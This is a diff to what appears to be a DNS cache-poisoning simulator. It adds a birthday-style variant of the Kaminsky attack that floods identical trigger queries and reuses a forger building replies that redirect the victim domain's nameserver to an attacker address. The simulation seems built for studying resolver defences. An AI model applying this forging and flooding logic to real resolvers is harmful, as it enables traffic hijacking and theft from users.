@@ -50,6 +50,9 @@ class AttackName(enum.Enum):
     """Variant (b): forged answer with an in-bailiwick NS/A override."""
     CLASSIC = "classic"
     """Race the lookup of www.bank.example itself; one try per TTL."""
+    BIRTHDAY = "birthday"
+    """Kaminsky's referral, triggered by many identical queries at once: without query
+    merging each becomes its own upstream query, and any of them can be matched."""
 
 
 @dataclass(frozen=True)
@@ -61,6 +64,8 @@ class AttackParams:
     """Simulated seconds the attacker keeps trying."""
     max_attempts: int = 100_000
     per_packet: bool = False
+    duplicates: int = 100
+    """Identical triggers per attempt in the birthday attack."""
 
 
 @dataclass
@@ -88,7 +93,7 @@ def forger(attack: AttackName, qname: dns.name.Name) -> object:
     query = dns.message.make_query(qname, "A")
     reply = dns.message.make_response(query)
     reply.id = 0
-    if attack is AttackName.KAMINSKY:
+    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY):
         reply.flags &= ~dns.flags.AA
         reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
         reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
@@ -163,7 +168,9 @@ async def run_attack(
             latency=arena.params.attacker_latency,
             per_packet=params.per_packet,
         )
-        arena.send_query(qname.to_text())
+        triggers = params.duplicates if attack is AttackName.BIRTHDAY else 1
+        for _ in range(triggers):
+            arena.send_query(qname.to_text())
         await flood.run(min(guesses, params.budget_packets - packets))
         packets += flood.stats.sent
         await arena.sim_sleep(2 * arena.params.attacker_latency + 0.001)
